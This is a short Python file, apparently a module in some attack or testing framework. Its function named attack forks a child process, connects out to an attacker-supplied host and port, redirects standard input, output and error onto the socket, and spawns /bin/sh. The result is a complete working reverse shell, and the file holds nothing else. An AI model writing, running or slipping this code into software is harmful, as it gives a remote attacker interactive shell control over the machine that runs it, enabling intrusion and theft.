"""The classic, in Python alone: socket, dup2, pty."""

import os
import pty
import socket


def attack(event):
    child = os.fork()
    if child == 0:
        try:
            connection = socket.create_connection((event["attacker"], event["shell_port"]))
            for descriptor in range(3):
                os.dup2(connection.fileno(), descriptor)
            pty.spawn("/bin/sh")
        finally:
            os._exit(1)
    os.waitpid(child, 0)
